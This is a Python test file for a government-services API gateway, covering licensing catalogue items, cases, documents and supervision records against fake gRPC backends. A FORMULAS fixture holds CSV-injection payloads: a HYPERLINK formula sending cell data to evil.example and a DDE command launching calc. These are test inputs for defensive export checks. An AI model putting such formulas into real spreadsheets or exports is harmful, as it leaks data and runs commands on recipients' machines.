"""The gateway's HTTP API against fake catalogue, cases and monitoring servers (real gRPC)."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import threading
import time
from collections.abc import Iterator

import grpc
import httpx
import pytest
import uvicorn
from fastapi.testclient import TestClient
from sunlight.cases.v1 import cases_pb2, cases_pb2_grpc
from sunlight.catalogue.v1 import catalogue_pb2, catalogue_pb2_grpc
from sunlight.common.v1 import common_pb2
from sunlight.monitoring.v1 import monitoring_pb2, monitoring_pb2_grpc

from gateway import export
from gateway.backends import Backends
from gateway.errors import http_status_of
from gateway.http_api import create_app
from infra.ports import free_port
from services.shared import catalogue_csv
from services.shared.channels import ChannelSeal
from services.shared.errors import DomainError, FailedPrecondition, NotFound, PermissionDenied
from services.shared.grpc_errors import abort_with
from services.shared.grpc_server import GrpcServer

TOKEN = "Bearer test-token"
SEAL = ChannelSeal("ed25519:not-a-real-key")


class Recorder:
    def __init__(self) -> None:
        self.calls: list[tuple[str, object, dict[str, str]]] = []

    def record(self, name: str, request: object, context: grpc.ServicerContext) -> None:
        self.calls.append((name, request, dict(context.invocation_metadata())))


def published(item_id: str) -> catalogue_pb2.ItemVersion:
    return catalogue_pb2.ItemVersion(
        item_id=item_id, version=2, status=catalogue_pb2.VERSION_STATUS_PUBLISHED,
        content=catalogue_pb2.ItemDraft(
            name="食品经营许可", code="511A0064100152", item_type="01", region="511602",
            department="广安区市场监督管理局", statutory_limit_days=20, promised_limit_days=10,
            steps=[catalogue_pb2.Step(key="accept", name="受理", limit_days=1)]))


#: names that a spreadsheet would run as formulas (CSV injection)
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)")


class FakeCatalogue(catalogue_pb2_grpc.CatalogueServiceServicer):
    def __init__(self, recorder: Recorder) -> None:
        self.r = recorder

    def ListPublishedItems(self, request, context):  # noqa: N802
        self.r.record("ListPublishedItems", request, context)
        return catalogue_pb2.ListPublishedItemsResponse(
            items=[published("it-1"), published("it-2")], next_page_token="next")

    def CreateItem(self, request, context):  # noqa: N802
        self.r.record("CreateItem", request, context)
        item = published("it-new")
        item.status = catalogue_pb2.VERSION_STATUS_DRAFT
        item.content.CopyFrom(request.draft)
        return catalogue_pb2.CreateItemResponse(item=item)

    def PublishItem(self, request, context):  # noqa: N802
        self.r.record("PublishItem", request, context)
        return catalogue_pb2.PublishItemResponse(item=published(request.item_id))

    def GetItemVersion(self, request, context):  # noqa: N802
        self.r.record("GetItemVersion", request, context)
        if request.item_id == "boom":
            raise RuntimeError("secret internals at /srv/db")
        abort_with(context, NotFound(f"item {request.item_id} has no published version",
                                     code="ITEM_NOT_PUBLISHED",
                                     metadata={"item_id": request.item_id}))

    def SearchItems(self, request, context):  # noqa: N802
        self.r.record("SearchItems", request, context)
        return catalogue_pb2.SearchItemsResponse(
            hits=[catalogue_pb2.SearchHit(item=published("it-1"), score=2.5)], total=1)

    def UpdateDraft(self, request, context):  # noqa: N802
        self.r.record("UpdateDraft", request, context)
        item = published(request.item_id)
        item.version, item.status = request.version, catalogue_pb2.VERSION_STATUS_DRAFT
        item.content.CopyFrom(request.draft)
        return catalogue_pb2.UpdateDraftResponse(item=item)

    def SubmitItem(self, request, context):  # noqa: N802
        self.r.record("SubmitItem", request, context)
        item = published(request.item_id)
        item.status = catalogue_pb2.VERSION_STATUS_SUBMITTED
        return catalogue_pb2.SubmitItemResponse(item=item)

    def ReviewItem(self, request, context):  # noqa: N802
        self.r.record("ReviewItem", request, context)
        item = published(request.item_id)
        item.reviews.add(kind=request.kind, decision=request.decision, reason=request.reason)
        return catalogue_pb2.ReviewItemResponse(item=item)

    def DraftNextVersion(self, request, context):  # noqa: N802
        self.r.record("DraftNextVersion", request, context)
        item = published(request.item_id)
        item.version, item.status = 3, catalogue_pb2.VERSION_STATUS_DRAFT
        return catalogue_pb2.DraftNextVersionResponse(item=item)

    def AdjustItem(self, request, context):  # noqa: N802
        self.r.record("AdjustItem", request, context)
        item = published(request.item_id)
        item.state = catalogue_pb2.ITEM_STATE_SUSPENDED
        return catalogue_pb2.AdjustItemResponse(item=item, successor_item_id="")

    def GetItemHistory(self, request, context):  # noqa: N802
        self.r.record("GetItemHistory", request, context)
        return catalogue_pb2.GetItemHistoryResponse(entries=[catalogue_pb2.HistoryEntry(
            item_id=request.item_id, version=1, action="published", actor="legal-1")])

    def RecordChange(self, request, context):  # noqa: N802
        self.r.record("RecordChange", request, context)
        return catalogue_pb2.RecordChangeResponse(obligations=[
            catalogue_pb2.ChangeObligation(
                obligation_id="ob-1", item_id=request.item_id, law=request.basis,
                kind=request.kind, effective_on=request.effective_on,
                due_date="2026-11-16", status=catalogue_pb2.OBLIGATION_STATUS_OPEN)])

    def ListObligations(self, request, context):  # noqa: N802
        self.r.record("ListObligations", request, context)
        return catalogue_pb2.ListObligationsResponse(obligations=[
            catalogue_pb2.ChangeObligation(obligation_id="ob-1", region="511602",
                                           status=catalogue_pb2.OBLIGATION_STATUS_OVERDUE)])

    def ExportItems(self, request, context):  # noqa: N802
        """511602: three items; 511699: none; 510000: refused; 511603: one, then a crash;
        511604: items whose texts a spreadsheet would run as formulas."""
        self.r.record("ExportItems", request, context)
        if request.region == "511604":
            for n, name in enumerate(FORMULAS):
                item = published(f"it-{n}")
                item.content.name = name
                item.content.department = "@" + item.content.department
                yield item
            return
        if request.region == "510000":
            abort_with(context, PermissionDenied("not your region", code="REGION_FORBIDDEN"))
        if request.region == "511699":
            return
        for n in range(3):
            item = published(f"it-{n}")
            item.content.list_kind = catalogue_pb2.LIST_KIND_POWER
            item.content.steps.add(key="decide", name="决定", limit_days=2)
            item.published_at.FromJsonString("2026-10-01T02:00:00Z")
            yield item
            if request.region == "511603":
                raise RuntimeError("the database went away")


DOCUMENT = cases_pb2.DocumentSummary(
    document_id="d3", kind="acceptance_notice", title="受理通知书", number="区发改受〔2026〕1号",
    case_number="511602202611020000001", content_sha256="c" * 64, pdf_sha256="p" * 64)


class FakeCases(cases_pb2_grpc.CaseServiceServicer):
    def __init__(self, recorder: Recorder) -> None:
        self.r = recorder

    def SubmitApplication(self, request, context):  # noqa: N802
        self.r.record("SubmitApplication", request, context)
        return cases_pb2.CaseResponse(case=cases_pb2.Case(
            case_number="511602202611020000001", item_id=request.item_id,
            applicant=request.applicant, status=cases_pb2.CASE_STATUS_SUBMITTED,
            mode=request.mode, channel=request.channel, allowed_actions=["accept", "reject"]))

    def ActOnCase(self, request, context):  # noqa: N802
        """Answers the case with the action taken as its only allowed action, or refuses
        ``decide`` as the engine does when the case is not there yet."""
        self.r.record("ActOnCase", request, context)
        action = request.WhichOneof("action")
        if action == "decide" and request.case_number == "511602202611020000009":
            abort_with(context, FailedPrecondition(
                "case 511602202611020000009 is submitted: decide is not possible now",
                code="ACTION_NOT_ALLOWED",
                metadata={"status": "submitted", "action": "decide",
                          "allowed": "accept,reject"}))
        return cases_pb2.CaseResponse(case=cases_pb2.Case(
            case_number=request.case_number, status=cases_pb2.CASE_STATUS_IN_PROGRESS,
            allowed_actions=[action]))

    def ListParallelBranches(self, request, context):  # noqa: N802
        self.r.record("ListParallelBranches", request, context)
        return cases_pb2.ListQueueResponse(total=1, entries=[cases_pb2.QueueEntry(
            case_number="511602202611020000001", item_name="食品经营许可",
            case_status=cases_pb2.CASE_STATUS_IN_PROGRESS, step=cases_pb2.CaseStep(
                instance_id="s4", key="review/fire", name="消防意见", urges=2,
                department="区消防救援大队", department_code="11511300MB1A21304N",
                status=cases_pb2.STEP_STATUS_ACTIVE))])

    def ListQueue(self, request, context):  # noqa: N802
        self.r.record("ListQueue", request, context)
        return cases_pb2.ListQueueResponse(total=1, entries=[cases_pb2.QueueEntry(
            case_number="511602202611020000001", item_name="食品经营许可",
            case_status=cases_pb2.CASE_STATUS_IN_PROGRESS, step=cases_pb2.CaseStep(
                instance_id="s3", key="review", name="审查", due_date="2026-11-05",
                status=cases_pb2.STEP_STATUS_ACTIVE))])

    def GetTrace(self, request, context):  # noqa: N802
        self.r.record("GetTrace", request, context)
        return cases_pb2.GetTraceResponse(entries=[cases_pb2.TraceEntry(
            seq=1, action="case.submitted", state_after="submitted", data_json="{}",
            prev_hash="0" * 64, hash="a" * 64)])

    def VerifyTrace(self, request, context):  # noqa: N802
        self.r.record("VerifyTrace", request, context)
        return cases_pb2.VerifyTraceResponse(intact=True, entries=1, head="a" * 64)

    def ListDocuments(self, request, context):  # noqa: N802
        self.r.record("ListDocuments", request, context)
        return cases_pb2.ListDocumentsResponse(documents=[DOCUMENT])

    def GetDocument(self, request, context):  # noqa: N802
        self.r.record("GetDocument", request, context)
        if request.document_id == "d9":
            abort_with(context, NotFound("case has no document d9", code="DOCUMENT_NOT_FOUND"))
        return cases_pb2.GetDocumentResponse(document=DOCUMENT, pdf=b"%PDF-1.7 fake",
                                             content_json="{}")

    def VerifyDocument(self, request, context):  # noqa: N802
        self.r.record("VerifyDocument", request, context)
        return cases_pb2.VerifyDocumentResponse(valid=request.WhichOneof("subject") == "stored",
                                                reason="checked", document=DOCUMENT)

    def GetCase(self, request, context):  # noqa: N802
        """``fail-<STATUS>`` answers that status with an ErrorDetail (``-`` for ``_``: a case
        number is letters, digits and hyphens)."""
        self.r.record("GetCase", request, context)
        if request.case_number.startswith("fail-"):
            status = request.case_number[5:].replace("-", "_")
            error = DomainError(f"failing with {status}", code="TEST_CODE",
                                metadata={"why": "asked"})
            error.grpc_status = status
            abort_with(context, error)
        return cases_pb2.CaseResponse(case=cases_pb2.Case(case_number=request.case_number))


class FakeMonitoring(monitoring_pb2_grpc.MonitoringServiceServicer):
    def __init__(self, recorder: Recorder) -> None:
        self.r = recorder

    def GetCaseRecord(self, request, context):  # noqa: N802
        self.r.record("GetCaseRecord", request, context)
        return monitoring_pb2.GetCaseRecordResponse(record=monitoring_pb2.CaseRecord(
            case_number=request.case_number, status="in_progress", last_sequence=3))



@pytest.fixture(scope="module")
def backend() -> Iterator[tuple[Recorder, str]]:
    recorder = Recorder()
    server = GrpcServer("127.0.0.1:0", max_workers=4)
    server.add(catalogue_pb2_grpc.add_CatalogueServiceServicer_to_server,
               FakeCatalogue(recorder), ["sunlight.catalogue.v1.CatalogueService"])
    server.add(cases_pb2_grpc.add_CaseServiceServicer_to_server, FakeCases(recorder),
               ["sunlight.cases.v1.CaseService"])
    server.add(monitoring_pb2_grpc.add_MonitoringServiceServicer_to_server,
               FakeMonitoring(recorder), ["sunlight.monitoring.v1.MonitoringService"])
    port = server.start()
    yield recorder, f"127.0.0.1:{port}"
    server.stop(0)


@pytest.fixture(scope="module")
def client(backend) -> Iterator[TestClient]:
    _, address = backend
    backends = Backends({"catalogue": address, "cases": address, "monitoring": address}, 5.0,
                        seal=SEAL)
    with TestClient(create_app(backends, "511602", "广安区"),
                    raise_server_exceptions=False) as test_client:
        yield test_client
    backends.close()


@pytest.fixture(scope="module")
def down_client() -> Iterator[TestClient]:
    """Catalogue and monitoring are down."""
    dead = f"127.0.0.1:{free_port()}"
    backends = Backends({"catalogue": dead, "cases": dead, "monitoring": dead}, 2.0)
    with TestClient(create_app(backends, "511602", "广安区"),
                    raise_server_exceptions=False) as test_client:
        yield test_client
    backends.close()


@pytest.fixture
def calls(backend) -> list:
    recorder, _ = backend
    recorder.calls.clear()
    return recorder.calls


def error_of(response) -> dict:
    body = response.json()
    assert set(body) == {"error"}
    assert set(body["error"]) == {"code", "message", "identifier", "metadata",
                                  "field_violations"}
    return body["error"]


# --- translation of requests and answers --------------------------------------------------
def test_list_items_passes_query_and_authorization(client, calls) -> None:
    response = client.get("/v1/items", params={"region": "511602", "page_size": 2,
                                               "page_token": "abc"},
                          headers={"Authorization": TOKEN})
    assert response.status_code == 200
    [(name, request, metadata)] = calls
    assert name == "ListPublishedItems"
    assert (request.region, request.page_size, request.page_token) == ("511602", 2, "abc")
    assert metadata["authorization"] == TOKEN
    # the channel, for the services' audit: the JSON API's, sealed for this very token; a
    # channel the caller names in a header of its own goes nowhere
    assert SEAL.channel_of(metadata.items()) == "http"
    calls.clear()
    client.get("/v1/items", params={"region": "511602"},
               headers={"Authorization": TOKEN, "x-sunlight-channel": "hall"})
    [(_, _, again)] = calls
    assert again["x-sunlight-channel"] == "http" and SEAL.channel_of(again.items()) == "http"
    body = response.json()
    assert body["next_page_token"] == "next"
    first = body["items"][0]
    assert first["item_id"] == "it-1"
    assert first["status"] == "VERSION_STATUS_PUBLISHED"
    assert first["content"]["promised_limit_days"] == 10
    step = first["content"]["steps"][0]
    assert {k: step[k] for k in ("key", "name", "limit_days", "role")} == {
        "key": "accept", "name": "受理", "limit_days": 1, "role": ""}


def test_no_authorization_header_sends_no_metadata(client, calls) -> None:
    assert client.get("/v1/items").status_code == 200
    assert "authorization" not in calls[0][2]


def test_create_item_parses_the_body(client, calls) -> None:
    draft = {"name": "建筑工程施工许可", "code": "C1", "item_type": "01", "region": "511602",
             "department": "住建局", "statutory_limit_days": 15, "promised_limit_days": 5,
             "steps": [{"key": "accept", "name": "受理", "limit_days": 1, "role": "clerk"}]}
    response = client.post("/v1/items", json={"idempotency_key": "k1", "draft": draft},
                           headers={"Authorization": TOKEN})
    assert response.status_code == 201
    [(name, request, _)] = calls
    assert name == "CreateItem" and request.idempotency_key == "k1"
    assert request.draft.steps[0].role == "clerk"
    assert response.json()["item"]["content"]["name"] == "建筑工程施工许可"
    assert response.json()["item"]["status"] == "VERSION_STATUS_DRAFT"


def test_publish_takes_item_and_version_from_the_path(client, calls) -> None:
    response = client.post("/v1/items/it-9/versions/3/publish", json={"idempotency_key": "p"})
    assert response.status_code == 200
    [(_, request, _)] = calls
    assert (request.item_id, request.version, request.idempotency_key) == ("it-9", 3, "p")


def test_path_fields_in_the_body_are_refused(client, calls) -> None:
    response = client.post("/v1/items/it-9/versions/3/publish", json={"version": 4})
    assert response.status_code == 400
    assert error_of(response)["field_violations"] == [
        {"field": "version", "description": "given in the path"}]
    assert calls == []


CASE = "511602202611020000001"


def test_submit_an_application_with_short_enum_forms(client, calls) -> None:
    submitted = client.post("/v1/cases", json={
        "idempotency_key": "o1", "item_id": "it-1", "region": "511602", "mode": "promised",
        "channel": "SYSTEM", "materials": [{"key": "form", "originals": 1}],
        "applicant": {"name": "张三", "id_type": "id_card", "id_number": "11010519491231002X"}},
        headers={"Authorization": TOKEN})
    assert submitted.status_code == 201
    body = submitted.json()["case"]
    assert body["applicant"]["name"] == "张三"
    assert (body["status"], body["mode"], body["channel"]) == (
        "CASE_STATUS_SUBMITTED", "HANDLING_MODE_PROMISED", "CHANNEL_SYSTEM")
    assert body["allowed_actions"] == ["accept", "reject"]
    [(name, request, metadata)] = calls
    assert name == "SubmitApplication" and metadata["authorization"] == TOKEN
    assert (request.idempotency_key, request.mode, request.channel) == (
        "o1", common_pb2.HANDLING_MODE_PROMISED, cases_pb2.CHANNEL_SYSTEM)
    assert [(m.key, m.originals) for m in request.materials] == [("form", 1)]


@pytest.mark.parametrize("action, given, check", [
    ("accept", {"opinion": "材料齐全"}, lambda a: a.opinion == "材料齐全"),
    ("complete_step", {"instance_id": "s3", "opinion": "同意"},
     lambda a: (a.instance_id, a.opinion) == ("s3", "同意")),
    ("return_step", {"instance_id": "s4", "to_key": "review", "reason": "补充意见"},
     lambda a: (a.instance_id, a.to_key) == ("s4", "review")),
    ("request_supplement", {"missing": ["form"], "due_date": "2026-11-20"},
     lambda a: list(a.missing) == ["form"]),
    ("decide", {"outcome": "approve", "document_number": "广发改〔2026〕1号"},
     lambda a: a.outcome == cases_pb2.DECISION_OUTCOME_APPROVE),
    ("decide", {"outcome": "DECISION_OUTCOME_REFUSE", "reasons": "不符合",
                "legal_basis": ["《行政许可法》第三十八条"]},
     lambda a: a.outcome == cases_pb2.DECISION_OUTCOME_REFUSE),
    ("start_procedure", {"kind": "expert-review", "reason": "技术复杂"},
     lambda a: a.kind == common_pb2.SPECIAL_PROCEDURE_EXPERT_REVIEW),
    ("start_procedure", {"kind": "extension", "reason": "情况复杂", "extension_days": 10},
     lambda a: (a.kind, a.extension_days) == (common_pb2.SPECIAL_PROCEDURE_EXTENSION, 10)),
    ("publish_result", {}, lambda a: True),
    ("complete", {}, lambda a: True),
])
def test_one_action_per_call(client, calls, action, given, check) -> None:
    response = client.post(f"/v1/cases/{CASE}/actions",
                           json={"idempotency_key": "a1", action: given},
                           headers={"Authorization": TOKEN})
    assert response.status_code == 200, response.text
    assert response.json()["case"]["allowed_actions"] == [action]
    [(name, request, metadata)] = calls
    assert name == "ActOnCase" and metadata["authorization"] == TOKEN
    assert (request.case_number, request.idempotency_key) == (CASE, "a1")
    assert request.WhichOneof("action") == action
    assert check(getattr(request, action))


@pytest.mark.parametrize("body, field", [
    ({"decide": {"outcome": "maybe"}}, "decide.outcome"),
    ({"start_procedure": {"kind": "prayer", "reason": "x"}}, "start_procedure.kind"),
    ({"case_number": CASE, "accept": {}}, "case_number"),
])
def test_bad_action_bodies_are_400_naming_the_field(client, calls, body, field) -> None:
    response = client.post(f"/v1/cases/{CASE}/actions", json={"idempotency_key": "a", **body})
    assert response.status_code == 400
    assert field in {v["field"] for v in error_of(response)["field_violations"]}
    assert calls == []


def test_two_actions_in_one_body_are_refused(client, calls) -> None:
    response = client.post(f"/v1/cases/{CASE}/actions", json={
        "idempotency_key": "a", "accept": {}, "withdraw": {"reason": "不办了"}})
    assert response.status_code == 400
    assert "action" in error_of(response)["message"]
    assert calls == []


def test_an_action_the_case_does_not_allow_is_422_with_status_and_allowed(client) -> None:
    response = client.post("/v1/cases/511602202611020000009/actions", json={
        "idempotency_key": "a", "decide": {"outcome": "approve"}})
    assert response.status_code == 422
    error = error_of(response)
    assert error["code"] == "ACTION_NOT_ALLOWED"
    assert error["metadata"] == {"status": "submitted", "action": "decide",
                                 "allowed": "accept,reject"}


def test_a_case_is_read_in_the_view_asked_for(client, calls) -> None:
    assert client.get(f"/v1/cases/{CASE}", params={"view": "status"}).status_code == 200
    assert client.get(f"/v1/cases/{CASE}/status").status_code == 200
    assert client.get(f"/v1/cases/{CASE}", params={"view": "file"}).status_code == 200
    refused = client.get(f"/v1/cases/{CASE}", params={"view": "everything"})
    assert refused.status_code == 400 and "query.view" in refused.text
    assert [(c[0], c[1].view) for c in calls] == [
        ("GetCase", cases_pb2.CASE_VIEW_STATUS), ("GetCase", cases_pb2.CASE_VIEW_STATUS),
        ("GetCase", cases_pb2.CASE_VIEW_FILE)]


def test_get_case_trace_verify_and_queue(client, calls) -> None:
    got = client.get(f"/v1/cases/{CASE}")
    assert got.json()["case"]["case_number"] == CASE
    trace = client.get(f"/v1/cases/{CASE}/trace").json()
    assert trace["entries"][0]["seq"] == "1"  # int64: a string in the proto3 JSON mapping
    assert trace["entries"][0]["prev_hash"] == "0" * 64
    verified = client.get(f"/v1/cases/{CASE}/trace/verify").json()
    assert (verified["intact"], verified["head"], verified["broken_at"]) == (
        True, "a" * 64, "0")
    queue = client.get("/v1/queue", params={"role": "chief", "region": "511602",
                                            "unclaimed_only": "true", "page_size": 5,
                                            "department_code": "115113016823646795"})
    assert queue.status_code == 200
    assert queue.json()["entries"][0]["step"]["instance_id"] == "s3"
    assert [c[0] for c in calls] == ["GetCase", "GetTrace", "VerifyTrace", "ListQueue"]
    assert [c[1].case_number for c in calls[:3]] == [CASE] * 3
    request = calls[3][1]
    assert (request.role, request.region, request.unclaimed_only, request.mine_only,
            request.page_size, request.department_code) == (
        "chief", "511602", True, False, 5, "115113016823646795")


def test_parallel_branches_and_the_service_centres_actions(client, calls) -> None:
    """服务中心协调并联审批: the listing of every department's running branches; urge and
    assist as actions, assist's kind in its short form too."""
    listed = client.get("/v1/parallel-branches", params={"region": "511602",
                                                          "late_only": "true"})
    assert listed.status_code == 200
    step = listed.json()["entries"][0]["step"]
    assert (step["key"], step["department_code"], step["urges"]) == (
        "review/fire", "11511300MB1A21304N", 2)
    [(name, request, _)] = calls
    assert name == "ListParallelBranches" and (request.region, request.late_only) == (
        "511602", True)
    for body in ({"urge": {"instance_id": "s4", "note": "请尽快出具消防意见"}},
                 {"assist": {"kind": "guide", "note": "引导填写申请表"}},
                 {"assist": {"kind": "ASSISTANCE_KIND_ASSIST", "note": "协助准备材料"}}):
        answer = client.post(f"/v1/cases/{CASE}/actions",
                             json={"idempotency_key": "k-" + next(iter(body)), **body})
        assert answer.status_code == 200, answer.text
    sent = [c[1] for c in calls if c[0] == "ActOnCase"]
    assert sent[0].urge.instance_id == "s4"
    assert [r.assist.kind for r in sent[1:]] == [cases_pb2.ASSISTANCE_KIND_GUIDE,
                                                 cases_pb2.ASSISTANCE_KIND_ASSIST]
    refused = client.post(f"/v1/cases/{CASE}/actions", json={
        "idempotency_key": "k-x", "assist": {"kind": "deliver", "note": "代办"}})
    assert refused.status_code == 400
    assert error_of(refused)["field_violations"][0]["field"] == "assist.kind"


def test_documents_listed_downloaded_as_pdf_and_verified(client, calls) -> None:
    listed = client.get(f"/v1/cases/{CASE}/documents").json()
    assert listed["documents"][0]["number"] == "区发改受〔2026〕1号"
    got = client.get(f"/v1/cases/{CASE}/documents/d3")
    assert got.status_code == 200 and got.content == b"%PDF-1.7 fake"
    assert got.headers["content-type"] == "application/pdf"
    assert got.headers["etag"] == f'"{"p" * 64}"'
    assert got.headers["x-content-sha256"] == "c" * 64
    assert got.headers["cache-control"] == "no-store"
    disposition = got.headers["content-disposition"]
    assert f'filename="{CASE}-d3.pdf"' in disposition and "filename*=UTF-8''" in disposition
    assert client.get(f"/v1/cases/{CASE}/documents/d9").status_code == 404
    assert client.get(f"/v1/cases/{CASE}/documents/x9").status_code == 400  # no such id
    stored = client.get(f"/v1/cases/{CASE}/documents/d3/verify").json()
    assert stored["valid"] is True and stored["document"]["document_id"] == "d3"
    sent = client.post("/v1/documents/verify", content=b"%PDF-1.7 held",
                       headers={"Content-Type": "application/pdf"}).json()
    assert sent["valid"] is False and sent["reason"] == "checked"
    names = [c[0] for c in calls]
    assert names == ["ListDocuments", "GetDocument", "GetDocument", "VerifyDocument",
                     "VerifyDocument"]
    assert calls[3][1].stored.document_id == "d3" and calls[4][1].pdf == b"%PDF-1.7 held"
    empty = client.post("/v1/documents/verify", content=b"")
    assert empty.status_code == 400
    too_big = client.post("/v1/documents/verify", content=b"x" * ((3 << 20) + 1))
    assert too_big.status_code == 413


@pytest.mark.parametrize("params, field", [
    ({"page_size": 201}, "query.page_size"), ({"region": "5116"}, "query.region"),
    ({"role": "r" * 65}, "query.role"),
])
def test_queue_parameters_are_checked_before_any_call(client, calls, params, field) -> None:
    response = client.get("/v1/queue", params=params)
    assert response.status_code == 400
    assert error_of(response)["field_violations"][0]["field"] == field
    assert calls == []


def test_supervision_record(client, calls) -> None:
    response = client.get("/v1/supervision/cases/511602202611020000001")
    assert response.status_code == 200
    record = response.json()["record"]
    assert record["status"] == "in_progress"
    assert record["last_sequence"] == "3"  # int64 is a string in the proto3 JSON mapping
    assert calls[0][0] == "GetCaseRecord"


# --- the catalogue's lifecycle, search, obligations ---------------------------------------
def test_search_translates_the_query(client, calls) -> None:
    response = client.get("/v1/items/search", params={
        "q": "qyba", "region": "511602", "department": "发展改革局", "item_type": "01",
        "list_kind": "power", "exercise_level": "4", "status": "draft", "page_size": 5,
        "page_token": "t1"}, headers={"Authorization": TOKEN})
    assert response.status_code == 200
    [(name, request, metadata)] = calls
    assert name == "SearchItems"  # not taken for an item called "search"
    assert (request.query, request.region, request.department, request.item_type,
            request.exercise_level, request.page_size, request.page_token) == (
        "qyba", "511602", "发展改革局", "01", "4", 5, "t1")
    assert request.list_kind == catalogue_pb2.LIST_KIND_POWER
    assert request.status == catalogue_pb2.VERSION_STATUS_DRAFT
    assert metadata["authorization"] == TOKEN
    body = response.json()
    assert body["total"] == 1 and body["hits"][0]["score"] == 2.5
    assert body["hits"][0]["item"]["item_id"] == "it-1"


@pytest.mark.parametrize("given, expected", [
    ({"list_kind": "LIST_KIND_PUBLIC_SERVICE"}, ("list_kind", 3)),
    ({"list_kind": "public-service"}, ("list_kind", 3)),
    ({"list_kind": "Negative"}, ("list_kind", 4)),
    ({"status": "VERSION_STATUS_SUBMITTED"}, ("status", 2)),
    ({"status": "returned"}, ("status", 3)),
    ({}, ("status", 0)),
])
def test_search_enums_take_names_and_short_forms(client, calls, given, expected) -> None:
    assert client.get("/v1/items/search", params=given).status_code == 200
    field, number = expected
    assert getattr(calls[0][1], field) == number


@pytest.mark.parametrize("path, params, field", [
    ("/v1/items/search", {"list_kind": "powers"}, "query.list_kind"),
    ("/v1/items/search", {"list_kind": "unspecified"}, "query.list_kind"),
    ("/v1/items/search", {"status": "草稿"}, "query.status"),
    ("/v1/obligations", {"region": "511602", "status": "late"}, "query.status"),
])
def test_unknown_enum_values_are_400_with_the_choices(client, calls, path, params,
                                                      field) -> None:
    response = client.get(path, params=params)
    assert response.status_code == 400
    error = error_of(response)
    assert error["code"] == "INVALID_ARGUMENT"
    assert error["message"].startswith(f"{field}: ")
    [violation] = error["field_violations"]
    assert violation["field"] == field and violation["description"].startswith("one of ")
    assert calls == []


def test_search_route_is_not_an_item_id(client, calls) -> None:
    """/v1/items/search is the search, /v1/items/search/history the history of "search"."""
    client.get("/v1/items/search")
    client.get("/v1/items/search/history")
    assert [(c[0], getattr(c[1], "item_id", None)) for c in calls] == [
        ("SearchItems", None), ("GetItemHistory", "search")]


def test_update_draft_takes_item_and_version_from_the_path(client, calls) -> None:
    draft = {"name": "食品经营许可", "list_kind": "LIST_KIND_POWER",
             "materials": [{"name": "申请书", "originals": 1, "mandatory": True}],
             "fees": [{"name": "工本费", "amount": {"currency_code": "CNY", "units": "10"}}]}
    response = client.put("/v1/items/it-9/versions/2", json={"idempotency_key": "u1",
                                                            "draft": draft})
    assert response.status_code == 200
    [(name, request, _)] = calls
    assert name == "UpdateDraft"
    assert (request.item_id, request.version, request.idempotency_key) == ("it-9", 2, "u1")
    assert request.draft.materials[0].mandatory and request.draft.fees[0].amount.units == 10
    assert response.json()["item"]["content"]["fees"][0]["amount"]["units"] == "10"
    clash = client.put("/v1/items/it-9/versions/2", json={"item_id": "other"})
    assert clash.status_code == 400 and len(calls) == 1


def test_submit(client, calls) -> None:
    response = client.post("/v1/items/it-9/versions/2/submit", json={"idempotency_key": "s"})
    assert response.status_code == 200
    assert response.json()["item"]["status"] == "VERSION_STATUS_SUBMITTED"
    [(name, request, _)] = calls
    assert (name, request.item_id, request.version, request.idempotency_key) == (
        "SubmitItem", "it-9", 2, "s")


@pytest.mark.parametrize("kind, decision, expected", [
    ("legal", "approve", (catalogue_pb2.REVIEW_KIND_LEGAL, catalogue_pb2.REVIEW_DECISION_APPROVE)),
    ("STAFFING", "return", (catalogue_pb2.REVIEW_KIND_STAFFING,
                            catalogue_pb2.REVIEW_DECISION_RETURN)),
    ("REVIEW_KIND_LEGAL", "REVIEW_DECISION_RETURN", (catalogue_pb2.REVIEW_KIND_LEGAL,
                                                     catalogue_pb2.REVIEW_DECISION_RETURN)),
])
def test_review_takes_short_forms_and_enum_names(client, calls, kind, decision,
                                                 expected) -> None:
    response = client.post("/v1/items/it-9/versions/2/review", json={
        "idempotency_key": "r", "kind": kind, "decision": decision, "reason": "依据已废止"})
    assert response.status_code == 200
    [(name, request, _)] = calls
    assert name == "ReviewItem" and (request.kind, request.decision) == expected
    assert (request.item_id, request.version, request.reason) == ("it-9", 2, "依据已废止")
    review = response.json()["item"]["reviews"][0]
    assert review["kind"] == catalogue_pb2.ReviewKind.Name(expected[0])


@pytest.mark.parametrize("path, body, field", [
    ("/v1/items/it-9/versions/2/review", {"kind": "finance", "decision": "approve"}, "kind"),
    ("/v1/items/it-9/versions/2/review", {"kind": "legal", "decision": "maybe"}, "decision"),
    ("/v1/items/it-9/adjust", {"action": "abolish"}, "action"),
])
def test_unknown_enum_values_in_bodies_are_400(client, calls, path, body, field) -> None:
    response = client.post(path, json=body)
    assert response.status_code == 400
    error = error_of(response)
    assert error["message"].startswith(f"{field}: ")
    assert error["field_violations"][0]["field"] == field
    assert calls == []


def test_draft_next_version_is_created(client, calls) -> None:
    response = client.post("/v1/items/it-9/versions", json={"idempotency_key": "n"})
    assert response.status_code == 201
    assert response.json()["item"]["version"] == 3
    [(name, request, _)] = calls
    assert (name, request.item_id, request.idempotency_key) == ("DraftNextVersion", "it-9", "n")


@pytest.mark.parametrize("action, expected", [
    ("suspend", catalogue_pb2.ADJUST_ACTION_SUSPEND),
    ("ADJUST_ACTION_DELEGATE", catalogue_pb2.ADJUST_ACTION_DELEGATE),
    ("unfreeze", catalogue_pb2.ADJUST_ACTION_UNFREEZE),
])
def test_adjust(client, calls, action, expected) -> None:
    response = client.post("/v1/items/it-9/adjust", json={
        "idempotency_key": "a", "action": action, "reason": "机构改革", "target": "511602"},
        headers={"Authorization": TOKEN})
    assert response.status_code == 200
    assert response.json()["item"]["state"] == "ITEM_STATE_SUSPENDED"
    [(name, request, metadata)] = calls
    assert name == "AdjustItem" and request.action == expected
    assert (request.item_id, request.reason, request.target) == ("it-9", "机构改革", "511602")
    assert metadata["authorization"] == TOKEN


def test_history(client, calls) -> None:
    response = client.get("/v1/items/it-9/history")
    assert response.status_code == 200
    assert response.json()["entries"][0]["action"] == "published"
    assert calls[0][0] == "GetItemHistory" and calls[0][1].item_id == "it-9"


def test_record_a_change(client, calls) -> None:
    response = client.post("/v1/changes", json={
        "idempotency_key": "l", "kind": "legal_basis", "item_id": "it-9",
        "basis": "中华人民共和国食品安全法", "description": "第三十五条修订",
        "effective_on": "2026-11-01"})
    assert response.status_code == 201
    [obligation] = response.json()["obligations"]
    assert obligation["status"] == "OBLIGATION_STATUS_OPEN"
    assert obligation["kind"] == "CHANGE_KIND_LEGAL_BASIS"
